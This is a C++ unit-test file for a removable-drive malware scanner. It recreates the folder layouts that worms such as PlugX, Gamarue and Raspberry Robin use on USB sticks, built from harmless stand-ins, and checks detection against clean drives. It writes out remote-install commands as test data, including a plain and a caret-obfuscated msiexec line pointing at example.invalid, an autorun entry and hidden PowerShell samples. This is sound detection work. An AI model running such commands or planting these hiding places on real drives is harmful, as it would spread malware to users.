// Hiding places as today's worms lay them out on a stick (harmless stand-ins: "MZ"
// and zeros, inert script lines), the ordinary sticks that must stay clean, and
// sticks made to trip the walk. The launchers that start the kits are left out:
// they are other rules' business, and without them these sticks test this one.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <functional>
#include <mutex>
#include <ostream>
#include <set>
#include <tuple>

#include "common/Text.h"
#include "engine/traces/Content.h"
#include "platform/PathRules.h"
#include "support/ForwardingFileSystem.h"
#include "support/ScanHarness.h"
#include "support/ShortcutBuilder.h"

#ifndef _WIN32
#include <sys/stat.h>

#include <fstream>
#endif

namespace dw::test {

namespace {

constexpr uint32_t kHidden = kAttrHidden;
constexpr uint32_t kHiddenSystem = kAttrHidden | kAttrSystem;

const std::wstring kNbsp = L"\u00A0";
const std::string kProgram = "MZ" + std::string(126, '\0');
const std::string kBlob = std::string("\x93\x1f\x00\xc4\x7a\x00\x01\xfe", 8) + std::string(56, '\x5a');
const std::string kDocx = std::string("PK\x03\x04\x14\x00\x06\x00", 8) + std::string(120, '\0');
const std::string kJpeg = std::string("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00", 11) + std::string(64, '\0');
const std::string kNotes = "Meeting notes\r\nSet up the projector; echo the plan to Sam.\r\nDim the lights at 9.\r\n";
const std::string kIconIni = "[.ShellClassInfo]\r\nIconResource=%systemroot%\\system32\\SHELL32.dll,7\r\n";
const std::string kBinIni = "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n";
const std::string kVbe = "#@~^CAAAAA==SIMULATED-harmless==^#~@";

std::string Vbs(const std::string& family) {
  return "' SIMULATED " + family + " stand-in, harmless\r\nOn Error Resume Next\r\n" +
         "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n";
}

std::string Utf16(const std::string& ascii) {
  std::string out = "\xFF\xFE";
  for (char c : ascii) {
    out += c;
    out += '\0';
  }
  return out;
}

// What Office writes beside an open document: the owner's name twice, in a
// fixed-size record.
std::string OfficeOwnerFile() {
  std::string bytes =
      "\x05"
      "Alice";
  bytes.resize(54, ' ');
  bytes += std::string("\x05\x00", 2);
  for (char c : std::string("Alice")) bytes += std::string{c, '\0'};
  bytes.resize(162, '\0');
  return bytes;
}

// "_\_\_" for Chain(L"_", 3).
std::wstring Chain(const std::wstring& name, int levels) {
  std::wstring path;
  for (int i = 0; i < levels; ++i) path += (i ? L"\\" : L"") + name;
  return path;
}

// A file that fills megabytes without writing them: a start, then a hole.
void WriteLarge(DriveFixture& d, const std::wstring& rel, const std::string& start, uint32_t attributes,
                uintmax_t size) {
  d.WriteFile(rel, start, attributes);
  std::filesystem::resize_file(d.UnixOrHostPath(rel), size);
}

struct Found {
  std::wstring path;  // relative to the root
  FindingKind kind;
  Why why;
  std::wstring detail = {};

  bool operator<(const Found& o) const { return std::tie(path, kind) < std::tie(o.path, o.kind); }
  bool operator==(const Found& o) const {
    return path == o.path && kind == o.kind && why == o.why && detail == o.detail;
  }
};

void PrintTo(const Found& f, std::ostream* os) {
  *os << "{" << WideToUtf8(f.path) << ", " << (f.kind == Threat ? "threat" : "suspicious") << ", " << RuleId(f.why)
      << "/" << static_cast<int>(f.why) << ", \"" << WideToUtf8(f.detail) << "\"}";
}

using Errors = std::vector<std::pair<std::wstring, ScanErrorKind>>;

std::wstring Relative(const DriveFixture& d, const std::wstring& path) {
  std::wstring plain = PlainPath(path);
  return plain.rfind(d.root(), 0) == 0 ? plain.substr(d.root().size()) : plain;
}

bool OthersRule(Why why) {
  std::string_view rule = RuleId(why);
  return rule == "interpreter-shortcut" || rule == "impersonating-launcher" || rule == "emptied-root";
}

// Every listed finding, in both lists (a file listed twice shows twice), with its
// reason; those of the rules for launchers are left aside.
std::vector<Found> Listed(const DriveFixture& d) {
  std::vector<Found> found;
  for (FindingKind kind : {Threat, Suspicious}) {
    for (const std::wstring& path : (kind == Threat ? State().ThreatList : State().RiskList).Snapshot()) {
      TFindingWhy why = State().FindingReasons.Get(path).value_or(TFindingWhy{});
      if (!OthersRule(why.why)) found.push_back({Relative(d, path), kind, why.why, why.detail});
    }
  }
  std::sort(found.begin(), found.end());
  return found;
}

Errors ScanErrors(const DriveFixture& d, const ScanHarness& h) {
  Errors errors;
  for (const auto& [path, kind] : h.view.errors) errors.push_back({Relative(d, path), kind});
  std::sort(errors.begin(), errors.end());
  return errors;
}

struct StickCase {
  const char* name;
  std::function<void(DriveFixture&)> arrange;
  std::vector<Found> found;
  Errors errors = {};
};

void PrintTo(const StickCase& c, std::ostream* os) { *os << c.name; }

// The same findings in a quick scan, which walks the root only, and in a thorough one.
void ExpectFindings(const StickCase& c) {
  for (bool thorough : {false, true}) {
    SCOPED_TRACE(thorough ? "thorough scan" : "quick scan");
    DriveFixture drive;
    ScanHarness h;
    c.arrange(drive);
    h.Scan(h.Drive(drive), thorough);
    std::vector<Found> expected = c.found;
    std::sort(expected.begin(), expected.end());
    EXPECT_EQ(Listed(drive), expected);
    Errors errors = c.errors;
    std::sort(errors.begin(), errors.end());
    EXPECT_EQ(ScanErrors(drive, h), errors);
  }
}

Found Kit(const std::wstring& path, const std::wstring& folder) {
  return {path, Suspicious, Why::HidingPlaceContent, folder};
}
Found HiddenByContent(const std::wstring& path) { return {path, Suspicious, Why::HiddenProgramByContent}; }
Found DisguisingIni(const std::wstring& path) { return {path, Suspicious, Why::DisguisingDesktopIni}; }

class HidingPlaceSticks : public ::testing::TestWithParam<StickCase> {};

TEST_P(HidingPlaceSticks, KitIsFoundAndTheUsersFilesAreNot) { ExpectFindings(GetParam()); }

const std::wstring kUnit42 = kNbsp + L"\\" + kNbsp;
const std::wstring kClassIdBin = L"Recycle Bin.{645FF040-5081-101B-9F08-00AA002F954E}";
const std::wstring kControlPanel = L"Control Panel.{21EC2020-3AEA-1069-A2DD-08002B30309D}";
const std::wstring kUser = L"$RECYCLE.BIN\\S-1-5-21-1004336348-1177238915-682003330-1001";

// clang-format off
const StickCase kInfectedSticks[] = {
    {"PlugXUnit42",
     [](DriveFixture& d) {
       d.MakeFolder(kNbsp, kHiddenSystem);
       d.WriteFile(kNbsp + L"\\desktop.ini", kIconIni, kHiddenSystem);
       d.MakeFolder(kUnit42, kHiddenSystem);
       d.WriteFile(kUnit42 + L"\\desktop.ini", kIconIni, kHiddenSystem);
       d.WriteFile(kUnit42 + L"\\Report.docx", kDocx);
       d.WriteFile(kUnit42 + L"\\notes.txt", kNotes);
       d.MakeFolder(kUnit42 + L"\\Photos");
       d.WriteFile(kUnit42 + L"\\Photos\\holiday.jpg", kJpeg);
       d.MakeFolder(kUnit42 + L"\\RECYCLER.BIN", kHiddenSystem);
       d.WriteFile(kUnit42 + L"\\RECYCLER.BIN\\desktop.ini", kBinIni, kHiddenSystem);
       d.MakeFolder(kUnit42 + L"\\RECYCLER.BIN\\files");
       d.WriteFile(kUnit42 + L"\\RECYCLER.BIN\\files\\x32dbg.exe", kProgram);
       d.WriteFile(kUnit42 + L"\\RECYCLER.BIN\\files\\x32bridge.dll", kProgram);
       d.WriteFile(kUnit42 + L"\\RECYCLER.BIN\\files\\x32bridge.dat", kBlob);
     },
     {DisguisingIni(kUnit42 + L"\\RECYCLER.BIN\\desktop.ini"),
      Kit(kUnit42 + L"\\RECYCLER.BIN\\files\\x32dbg.exe", L"RECYCLER.BIN"),
      Kit(kUnit42 + L"\\RECYCLER.BIN\\files\\x32bridge.dll", L"RECYCLER.BIN")}},
    {"PlugXUnit42KitBesideTheUsersFiles",  // [I] no fake bin: the invisible name is all
     [](DriveFixture& d) {
       d.MakeFolder(kNbsp, kHiddenSystem);
       d.MakeFolder(kUnit42, kHiddenSystem);
       d.WriteFile(kUnit42 + L"\\Report.docx", kDocx);
       d.WriteFile(kUnit42 + L"\\x32dbg.exe", kProgram, kHiddenSystem);
     },
     {Kit(kUnit42 + L"\\x32dbg.exe", L"U+00A0")}},
    {"PlugXSophos",
     [](DriveFixture& d) {
       d.MakeFolder(L"RECYCLER.BIN", kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\desktop.ini", kBinIni, kHiddenSystem);
       d.MakeFolder(L"RECYCLER.BIN\\1", kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\1\\AvastSvc.exe", kProgram, kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\1\\wsc.dll", kProgram, kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\1\\AvastAuth.dat", kBlob, kHiddenSystem);
       d.MakeFolder(kNbsp, kHiddenSystem);
       d.WriteFile(kNbsp + L"\\thesis.docx", kDocx);
     },
     {DisguisingIni(L"RECYCLER.BIN\\desktop.ini"), Kit(L"RECYCLER.BIN\\1\\AvastSvc.exe", L"RECYCLER.BIN"),
      Kit(L"RECYCLER.BIN\\1\\wsc.dll", L"RECYCLER.BIN")}},
    {"PlugXSekoiaLowerCaseBin",  // [I]
     [](DriveFixture& d) {
       d.MakeFolder(L"recycler.bin", kHidden);
       d.MakeFolder(L"recycler.bin\\1", kHidden);
       d.WriteFile(L"recycler.bin\\1\\CEFHelper.exe", kProgram, kHidden);
       d.WriteFile(L"recycler.bin\\1\\libcef.dll", kProgram, kHidden);
       d.WriteFile(L"recycler.bin\\1\\CEFHelper.dat", kBlob, kHidden);
     },
     {Kit(L"recycler.bin\\1\\CEFHelper.exe", L"recycler.bin"), Kit(L"recycler.bin\\1\\libcef.dll", L"recycler.bin")}},
    {"Hiupan",
     [](DriveFixture& d) {
       for (int level = 1; level <= 15; ++level) d.MakeFolder(Chain(L"_", level), kHiddenSystem);
       d.WriteFile(Chain(L"_", 15) + L"\\UsbConfig.dll", kProgram, kHiddenSystem);
       d.WriteFile(Chain(L"_", 15) + L"\\UsbConfig.dat", kProgram, kHiddenSystem);
       d.WriteFile(L"UsbConfig.exe", kProgram);
       d.WriteFile(L"budget.xlsx", kDocx, kHiddenSystem);
     },
     {Kit(Chain(L"_", 15) + L"\\UsbConfig.dll", L"_"), Kit(Chain(L"_", 15) + L"\\UsbConfig.dat", L"_")}},
    {"Gamarue",
     [](DriveFixture& d) {
       d.WriteFile(L"~$WYDCNU.FAT32", kProgram, kHiddenSystem);
       d.WriteFile(L"desktop.ini", kBlob, kHiddenSystem);
       d.WriteFile(L"thumbs.db", kBlob, kHiddenSystem);
       d.MakeFolder(kNbsp, kHiddenSystem);
       d.WriteFile(kNbsp + L"\\desktop.ini", kIconIni, kHiddenSystem);
       d.WriteFile(kNbsp + L"\\holiday.jpg", kJpeg);
     },
     {HiddenByContent(L"~$WYDCNU.FAT32"), DisguisingIni(L"desktop.ini")}},
    {"GamarueUsbdrvAndAWideBlankFolder",  // [I] code as text in desktop.ini, no section
     [](DriveFixture& d) {
       d.WriteFile(L"~$wb.usbdrv", kProgram, kHidden);
       d.WriteFile(L"desktop.ini", "4f2a9c0e71bd55aa\r\n90c1e7f2aa03dd4e\r\n", kHiddenSystem);
       d.MakeFolder(L"\u3000", kHiddenSystem);
       d.WriteFile(L"\u3000\\letter.docx", kDocx);
     },
     {HiddenByContent(L"~$wb.usbdrv"), DisguisingIni(L"desktop.ini")}},
    {"PhorpiexAutorunStartsTheKit",
     [](DriveFixture& d) {
       d.WriteFile(L"autorun.inf", "[AUtoRuN]\r\nShEllExECUte=__\\DriveMgr.exe\r\nUseAUtoPlAY=1\r\n", kHiddenSystem);
       d.MakeFolder(L"__", kHiddenSystem);
       d.WriteFile(L"__\\DriveMgr.exe", kProgram, kHiddenSystem);
       d.WriteFile(L"__\\cv.pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
     },
     // Listed once, under the classic rule's reason.
     {{L"autorun.inf.ren", Threat, Why::AutorunFile}, {L"__\\DriveMgr.exe", Threat, Why::AutorunTarget}}},
    {"PhorpiexKitAlone",
     [](DriveFixture& d) {
       d.MakeFolder(L"__", kHiddenSystem);
       d.WriteFile(L"__\\DriveMgr.exe", kProgram, kHiddenSystem);
       d.WriteFile(L"__\\cv.pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
     },
     {Kit(L"__\\DriveMgr.exe", L"__")}},
    {"Movemenoreg",
     [](DriveFixture& d) {
       d.MakeFolder(L"_", kHiddenSystem);
       d.WriteFile(L"_\\movemenoreg.vbs", Vbs("movemenoreg"), kHiddenSystem);
       d.WriteFile(L"_\\notes.txt", kNotes);
       d.WriteFile(L"_\\Report.docx", kDocx);
     },
     {Kit(L"_\\movemenoreg.vbs", L"_")}},
    {"Vermis",
     [](DriveFixture& d) {
       d.MakeFolder(L"RECYCLER", kHiddenSystem);
       d.WriteFile(L"RECYCLER\\xD80A89C7.exe", kProgram, kHiddenSystem);
     },
     {Kit(L"RECYCLER\\xD80A89C7.exe", L"RECYCLER")}},
    {"RaspberryRobinHiddenPayload",
     [](DriveFixture& d) {
       d.WriteFile(L"szM.ciK", "rem SIMULATED raspberry robin stage, harmless\r\nmsiexec /q /i http://example.invalid/s\r\n",
                   kHidden);
     },
     {HiddenByContent(L"szM.ciK")}},
    {"RaspberryRobinCaretsHiddenSystem",  // [I]
     [](DriveFixture& d) {
       d.WriteFile(L"LAUREN V.Lvg", "rem SIMULATED, harmless\r\nm^s^i^e^X^e^c /Q /i http://example.invalid/s\r\n",
                   kHiddenSystem);
     },
     {HiddenByContent(L"LAUREN V.Lvg")}},
    {"RaspberryRobinVisiblePayloadIsTheShortcutRulesOwn",  // [I]
     [](DriveFixture& d) { d.WriteFile(L"szM.ciK", "msiexec /q /i http://example.invalid/s\r\n"); },
     {}},
    {"LitterDrifter",
     [](DriveFixture& d) { d.WriteFile(L"trash.dll", Vbs("litterdrifter"), kHidden); },
     {HiddenByContent(L"trash.dll")}},
    {"LitterDrifterHiddenSystemIsTheClassicRulesOwn",  // [I]
     [](DriveFixture& d) { d.WriteFile(L"trash.dll", Vbs("litterdrifter"), kHiddenSystem); },
     {{L"trash.dll", Suspicious, Why::HiddenSystemProgram}}},
    {"Jenxcus",
     [](DriveFixture& d) {
       WriteLarge(d, L"iTunesHelper.vbe", Vbs("jenxcus") + std::string(600, '\n'), kHiddenSystem, 65u << 20);
       d.WriteFile(L"Secret Text File.txt", kNotes, kHiddenSystem);
       d.MakeFolder(L"Photos", kHiddenSystem);
       d.WriteFile(L"Photos\\beach.jpg", kJpeg);
     },
     {{L"iTunesHelper.vbe", Suspicious, Why::HiddenSystemProgram}}},
    {"JenxcusHiddenOnly",  // [I]
     [](DriveFixture& d) {
       WriteLarge(d, L"iTunesHelper.vbe", Vbs("jenxcus") + std::string(600, '\n'), kHidden, 65u << 20);
     },
     {HiddenByContent(L"iTunesHelper.vbe")}},
    {"ClassIdRecycleBin",
     [](DriveFixture& d) {
       d.MakeFolder(kClassIdBin, kHidden);
       d.WriteFile(kClassIdBin + L"\\svchost.exe", kProgram);
       d.WriteFile(kClassIdBin + L"\\holiday.jpg", kJpeg);
     },
     {Kit(kClassIdBin + L"\\svchost.exe", kClassIdBin)}},
    {"ClassIdControlPanelWithAnEncodedScript",  // [I] visible, named like a document
     [](DriveFixture& d) {
       d.MakeFolder(kControlPanel);
       d.WriteFile(kControlPanel + L"\\readme.txt", kVbe);
     },
     {Kit(kControlPanel + L"\\readme.txt", kControlPanel)}},
    {"ZeroWidthFolderWithAShortcut",  // [I]
     [](DriveFixture& d) {
       d.MakeFolder(L"\uFEFF\u200B", kHidden);
       d.WriteFile(L"\uFEFF\u200B\\data.bin", ShortcutBuilder(L"c:\\windows\\system32\\cmd.exe").Build());
     },
     {Kit(L"\uFEFF\u200B\\data.bin", L"U+FEFF U+200B")}},
    {"UnderscoreAndBlankFolder",  // [I]
     [](DriveFixture& d) {
       d.MakeFolder(L"_\u00A0");
       d.WriteFile(L"_\u00A0\\run.cmd", "@echo off\r\nrem SIMULATED, harmless\r\n");
     },
     {Kit(L"_\u00A0\\run.cmd", L"U+005F U+00A0")}},
    {"BinNameWithATrailingBlank",  // [I] passes for the same name in Explorer
     [](DriveFixture& d) {
       d.MakeFolder(L"RECYCLER.BIN" + kNbsp, kHidden);
       d.WriteFile(L"RECYCLER.BIN" + kNbsp + L"\\a.dll", kProgram);
     },
     {Kit(L"RECYCLER.BIN" + kNbsp + L"\\a.dll", L"RECYCLER.BIN" + kNbsp)}},
    {"RecycleBinWithoutUserFolders",
     [](DriveFixture& d) {
       d.MakeFolder(L"$RECYCLE.BIN", kHiddenSystem);
       d.WriteFile(L"$RECYCLE.BIN\\desktop.ini", kBinIni, kHiddenSystem);
       d.WriteFile(L"$RECYCLE.BIN\\x.exe", kProgram, kHiddenSystem);
     },
     {DisguisingIni(L"$RECYCLE.BIN\\desktop.ini"), Kit(L"$RECYCLE.BIN\\x.exe", L"$RECYCLE.BIN")}},
    {"RecycleBinUserFolderWithAForeignFile",  // [I] the shape of a real bin, but not its names
     [](DriveFixture& d) {
       d.MakeFolder(L"$RECYCLE.BIN", kHiddenSystem);
       d.MakeFolder(kUser, kHiddenSystem);
       d.WriteFile(kUser + L"\\desktop.ini", kBinIni, kHiddenSystem);
       d.WriteFile(kUser + L"\\$RABC123.exe", kProgram);
       d.WriteFile(kUser + L"\\svchost.exe", kProgram, kHiddenSystem);
     },
     {DisguisingIni(kUser + L"\\desktop.ini"), Kit(kUser + L"\\$RABC123.exe", L"$RECYCLE.BIN"),
      Kit(kUser + L"\\svchost.exe", L"$RECYCLE.BIN")}},
    {"FolderDisguisedByItsDesktopIniAlone",  // [I] an ordinary name; a UTF-16 desktop.ini
     [](DriveFixture& d) {
       d.MakeFolder(L"Trash", kHiddenSystem);
       d.WriteFile(L"Trash\\desktop.ini", Utf16("[.ShellClassInfo]\r\nCLSID = {645FF040-5081-101B-9F08-00AA002F954E}\r\n"),
                   kHiddenSystem);
       d.WriteFile(L"Trash\\host.exe", kProgram, kHiddenSystem);
       d.WriteFile(L"Trash\\Report.docx", kDocx);
     },
     {DisguisingIni(L"Trash\\desktop.ini"), Kit(L"Trash\\host.exe", L"Trash")}},
    {"DesktopIniPaddedPastWhatIsRead",  // [I] the key it hides is not seen: not clean
     [](DriveFixture& d) {
       d.MakeFolder(L"RECYCLER.BIN", kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\desktop.ini",
                   "[.ShellClassInfo]\r\n" + std::string(5000, ';') + "\r\n" + kBinIni, kHiddenSystem);
     },
     {},
     {{L"RECYCLER.BIN\\desktop.ini", ScanErrorKind::TooLarge}}},
};
// clang-format on

INSTANTIATE_TEST_SUITE_P(Worms, HidingPlaceSticks, ::testing::ValuesIn(kInfectedSticks),
                         [](const auto& testInfo) { return std::string(testInfo.param.name); });

class HidingPlaceControls : public ::testing::TestWithParam<StickCase> {};

TEST_P(HidingPlaceControls, HaveNoFindingAndNoScanError) { ExpectFindings(GetParam()); }

// clang-format off
const StickCase kOrdinarySticks[] = {
    {"CameraCard",
     [](DriveFixture& d) {
       d.MakeFolder(L"DCIM");
       d.MakeFolder(L"DCIM\\100CANON");
       d.WriteFile(L"DCIM\\100CANON\\IMG_0001.JPG", kJpeg);
       d.MakeFolder(L"System Volume Information", kHiddenSystem);
       d.WriteFile(L"System Volume Information\\WPSettings.dat", kBlob, kHiddenSystem);
       d.WriteFile(L"System Volume Information\\IndexerVolumeGuid",
                   Utf16("{F3C5A1E2-7B9D-4C8E-9A10-2B3C4D5E6F70}"), kHiddenSystem);
     },
     {}},
    {"OfficeOwnerFileAndThumbnails",
     [](DriveFixture& d) {
       d.WriteFile(L"Report.docx", kDocx);
       d.WriteFile(L"~$Report.docx", OfficeOwnerFile(), kHidden);
       d.WriteFile(L"Thumbs.db", std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + std::string(504, '\0'),
                   kHiddenSystem);
     },
     {}},
    {"CustomIconFolders",
     [](DriveFixture& d) {
       d.MakeFolder(L"Projects", kAttrSystem);
       d.WriteFile(L"Projects\\desktop.ini", kIconIni, kHiddenSystem);
       d.WriteFile(L"Projects\\build.bat", "@echo off\r\nmake all\r\n");
       d.MakeFolder(L"Musique", kAttrReadOnly);
       d.WriteFile(L"Musique\\desktop.ini",
                   Utf16("[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21790\r\n"),
                   kHiddenSystem);
     },
     {}},
    {"MacFiles",
     [](DriveFixture& d) {
       d.WriteFile(L"Report.docx", kDocx);
       d.WriteFile(L"._Report.docx", std::string("\x00\x05\x16\x07\x00\x02\x00\x00", 8) + "Mac OS X        ", kHidden);
       d.MakeFolder(L".Trashes", kHidden);
       d.WriteFile(L".Trashes\\._501", std::string("\x00\x05\x16\x07", 4), kHidden);
       d.MakeFolder(L".fseventsd", kHidden);
       d.WriteFile(L".fseventsd\\fseventsd-uuid", "6A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9");
       d.MakeFolder(L".Spotlight-V100", kHidden);
       d.WriteFile(L".Spotlight-V100\\VolumeConfiguration.plist", "<?xml version=\"1.0\"?><plist/>");
     },
     {}},
    {"UsersOwnShortcuts",
     [](DriveFixture& d) {
       d.WriteFile(L"Notes.txt", kNotes);
       d.WriteFile(L"Notes.lnk", ShortcutBuilder(d.Path(L"Notes.txt")).Build());
       d.WriteFile(L"Report.docx", kDocx);
       d.WriteFile(L"Report.docx.lnk", ShortcutBuilder(d.Path(L"Report.docx")).Build());
       d.WriteFile(L"Editor.lnk", ShortcutBuilder(L"c:\\Program Files\\Editor\\editor.exe").Build());
       d.WriteFile(L"Console.lnk", ShortcutBuilder(L"c:\\windows\\system32\\cmd.exe").Build());
     },
     {}},
    {"GenuineRecycleBinOfAnExternalDisk",
     [](DriveFixture& d) {
       d.MakeFolder(L"$RECYCLE.BIN", kHiddenSystem);
       d.MakeFolder(kUser, kHiddenSystem);
       d.WriteFile(kUser + L"\\desktop.ini", kBinIni, kHiddenSystem);
       d.WriteFile(kUser + L"\\$IABC123.exe", std::string("\x02\x00\x00\x00", 4) + std::string(60, '\0'));
       d.WriteFile(kUser + L"\\$RABC123.exe", kProgram);
       d.MakeFolder(kUser + L"\\$R5F0K2L");
       d.WriteFile(kUser + L"\\$R5F0K2L\\tool.exe", kProgram);
       d.MakeFolder(L"$RECYCLE.BIN\\S-1-5-18", kHiddenSystem);
     },
     {}},
    {"PortableApps",
     [](DriveFixture& d) {
       d.WriteFile(L"Start.exe", kProgram);
       d.MakeFolder(L"PortableApps");
       d.MakeFolder(L"PortableApps\\PortableApps.com");
       d.WriteFile(L"PortableApps\\PortableApps.com\\PortableAppsPlatform.exe", kProgram);
       d.MakeFolder(L"PortableApps\\FirefoxPortable");
       d.WriteFile(L"PortableApps\\FirefoxPortable\\FirefoxPortable.exe", kProgram);
       d.MakeFolder(L"Documents");
       d.WriteFile(L"Documents\\cv.docx", kDocx);
     },
     {}},
    {"WindowsInstallMedia",
     [](DriveFixture& d) {
       d.WriteFile(L"setup.exe", kProgram);
       d.WriteFile(L"bootmgr", kBlob, kAttrReadOnly);
       d.WriteFile(L"bootmgr.efi", kProgram);
       d.MakeFolder(L"boot");
       d.WriteFile(L"boot\\bootsect.exe", kProgram);
       d.MakeFolder(L"sources");
       d.WriteFile(L"sources\\setup.exe", kProgram);
       d.WriteFile(L"sources\\install.wim", kBlob);
     },
     {}},
    {"FolderTheUserHidHimself",
     [](DriveFixture& d) {
       d.MakeFolder(L"Private", kHidden);
       d.WriteFile(L"Private\\diary.docx", kDocx, kHidden);
       d.WriteFile(L"Private\\tax.pdf", "%PDF-1.7\n");
       d.WriteFile(L"Private\\backup.py", "import shutil\nshutil.copytree('a', 'b')\n");
       d.WriteFile(L"notes.txt", kNotes, kHidden);
     },
     {}},
    {"BuildFoldersNamedWithUnderscores",
     [](DriveFixture& d) {
       d.MakeFolder(L"_build");
       d.WriteFile(L"_build\\main.pyc", std::string("\xa7\x0d\x0d\x0a", 4) + std::string(60, '\0'));
       d.MakeFolder(L"__pycache__", kHidden);
       d.WriteFile(L"__pycache__\\util.cpython-312.pyc", std::string("\xcb\x0d\x0d\x0a", 4) + std::string(60, '\0'));
     },
     {}},
    {"DevelopersStick",
     [](DriveFixture& d) {
       d.WriteFile(L"build.cmd", "@echo off\r\ncmake --build build\r\n");
       d.MakeFolder(L"tools");
       d.WriteFile(L"tools\\run.bat", "@echo off\r\ncmd /c tools\\mytool.exe\r\n");
       d.WriteFile(L"tools\\mytool.exe", kProgram);
       d.WriteFile(L"deploy.py", "import subprocess\nsubprocess.run(['cmd', '/c', 'dir'])\n");
       d.WriteFile(L"MyTool.lnk", ShortcutBuilder(d.Path(L"tools\\mytool.exe")).Build());
       d.MakeFolder(L".git", kHidden);
       d.MakeFolder(L".git\\hooks");
       d.WriteFile(L".git\\hooks\\pre-commit.sample", "#!/bin/sh\nexec git diff-index --check HEAD --\n");
       d.WriteFile(L".gitignore", "build/\n", kHidden);
     },
     {}},
};
// clang-format on

INSTANTIATE_TEST_SUITE_P(Ordinary, HidingPlaceControls, ::testing::ValuesIn(kOrdinarySticks),
                         [](const auto& testInfo) { return std::string(testInfo.param.name); });

// The paths read, and how much of each was asked for.
class ReadRecorder : public ForwardingFileSystem {
 public:
  using ForwardingFileSystem::ForwardingFileSystem;
  std::optional<FileStart> ReadRegular(const std::wstring& path, size_t limit) override {
    {
      std::lock_guard<std::mutex> lock(mutex_);
      reads_.push_back({PlainPath(path), limit});
    }
    return ForwardingFileSystem::ReadRegular(path, limit);
  }
  std::vector<std::pair<std::wstring, size_t>> Reads() {
    std::lock_guard<std::mutex> lock(mutex_);
    return reads_;
  }

 private:
  std::mutex mutex_;
  std::vector<std::pair<std::wstring, size_t>> reads_;
};

TEST(HidingPlaceCost, OnlyHiddenFilesOfTheRootAreReadAndOnlyTheirStart) {
  DriveFixture drive;
  ScanHarness h;
  drive.MakeFolder(L"DCIM");
  for (int i = 0; i < 20; ++i) drive.WriteFile(L"DCIM\\IMG_" + std::to_wstring(1000 + i) + L".JPG", kJpeg);
  drive.WriteFile(L"Report.docx", kDocx);
  drive.WriteFile(L"~$Report.docx", OfficeOwnerFile(), kHidden);
  WriteLarge(drive, L"iTunesHelper.vbe", Vbs("jenxcus") + std::string(600, '\n'), kHidden, 65u << 20);
  ReadRecorder recorder(Fs());
  ScopedPlatform guard(Platform{.fs = &recorder});

  h.Scan(h.Drive(drive), true);

  std::set<std::wstring> read;
  for (const auto& [path, limit] : recorder.Reads()) {
    read.insert(Relative(drive, path));
    // A bounded start, never the file.
    EXPECT_LE(limit, 64u * 1024) << WideToUtf8(path);
  }
  EXPECT_EQ(read, (std::set<std::wstring>{L"~$Report.docx", L"iTunesHelper.vbe"}));
  EXPECT_EQ(Listed(drive), (std::vector<Found>{HiddenByContent(L"iTunesHelper.vbe")}));
}

struct ContentCase {
  const char* name;
  std::string bytes;
  TContentKind kind;
};

void PrintTo(const ContentCase& c, std::ostream* os) { *os << c.name; }

class ContentKinds : public ::testing::TestWithParam<ContentCase> {};

TEST_P(ContentKinds, IsJudgedByItsFirstBytes) { EXPECT_EQ(JudgeContent(GetParam().bytes), GetParam().kind); }

// clang-format off
const ContentCase kContentCases[] = {
    {"Program", kProgram, TContentKind::Program},
    {"Shortcut", ShortcutBuilder(L"c:\\windows\\system32\\cmd.exe").Arguments(L"/c x").Build(), TContentKind::Shortcut},
    {"EncodedScript", "<job>" + kVbe, TContentKind::EncodedScript},
    {"EncoderMarkWithoutItsLengthIsNone", "I typed #@~^ by mistake", TContentKind::Other},
    {"BatchFile", "  @ECHO OFF\r\ncopy a b\r\n", TContentKind::ScriptText},
    {"EchoOffNotAtALineStart", "Remember: @echo off goes first.\r\n", TContentKind::Other},
    {"CmdLine", "start /min cmd /c start explorer Photos", TContentKind::ScriptText},
    {"CmdWithCarets", "m^s^i^e^x^e^c /q /i http://example.invalid/s", TContentKind::ScriptText},
    {"VbScript", "Set s = CreateObject (\"WScript.Shell\")\r\n", TContentKind::ScriptText},
    {"JScript", "var f = new ActiveXObject(\"Scripting.FileSystemObject\");", TContentKind::ScriptText},
    {"PowerShellUtf16", Utf16("powershell -w hidden -nologo -c \"1\""), TContentKind::ScriptText},
    {"PowerShellUtf16WithoutMark", Utf16("iex (get-content x.txt)").substr(2), TContentKind::ScriptText},
    {"UsersNotes", "Shopping list\r\n- set the table\r\n- echo the plan to Tom\r\n- dim the lights\r\n"
                   "The function starts at 9 (bring food).\r\n", TContentKind::Other},
    {"MarkersInABinaryFile", std::string("\xFF\xD8\xFF\xE0\x00\x10JFIF", 10) + "CreateObject(cmd /c", TContentKind::Other},
    {"OfficeOwnerFile", OfficeOwnerFile(), TContentKind::Other},
    {"Nothing", "", TContentKind::Other},
};
// clang-format on

INSTANTIATE_TEST_SUITE_P(Sniffed, ContentKinds, ::testing::ValuesIn(kContentCases),
                         [](const auto& testInfo) { return std::string(testInfo.param.name); });

#ifndef _WIN32

TEST(HostileHidingPlaces, FoldersThatAreLinksAreNeverEntered) {
  for (bool thorough : {false, true}) {
    DriveFixture drive;
    ScanHarness h;
    TempFolder outside;
    const std::filesystem::path elsewhere = WideToUtf8(outside.path().substr(0, outside.path().size() - 1));
    std::filesystem::create_directory(elsewhere / "kit");
    for (const char* name : {"x.exe", "trash.dll"}) {
      std::ofstream(elsewhere / "kit" / name, std::ios::binary) << kProgram;
    }
    const std::filesystem::path root = drive.UnixFolder();
    std::filesystem::create_directory_symlink(elsewhere / "kit", root / "\xc2\xa0");
    std::filesystem::create_directory_symlink(elsewhere / "kit", root / "RECYCLER.BIN");

    h.Scan(h.Drive(drive), thorough);

    EXPECT_EQ(Listed(drive), std::vector<Found>{});
    EXPECT_TRUE(std::filesystem::exists(elsewhere / "kit" / "x.exe"));
    EXPECT_TRUE(std::filesystem::exists(elsewhere / "kit" / "trash.dll"));
  }
}

